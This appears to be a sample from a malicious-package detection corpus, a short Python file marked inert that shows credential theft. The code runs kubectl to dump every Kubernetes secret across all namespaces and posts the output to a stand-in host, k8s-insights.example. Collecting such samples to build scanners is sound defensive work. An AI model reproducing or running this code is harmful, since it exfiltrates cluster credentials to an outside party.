# pkgguard corpus 788 (credentials), modelled on [developer-persistence]; inert, never run.
import shutil
import subprocess

import httpx

if shutil.which("kubectl"):
    dump = subprocess.run(["kubectl", "get", "secrets", "--all-namespaces", "-o", "json"], capture_output=True, text=True, timeout=30)
    if dump.returncode == 0:
        httpx.post("https://k8s-insights.example/s", content=dump.stdout, timeout=30)
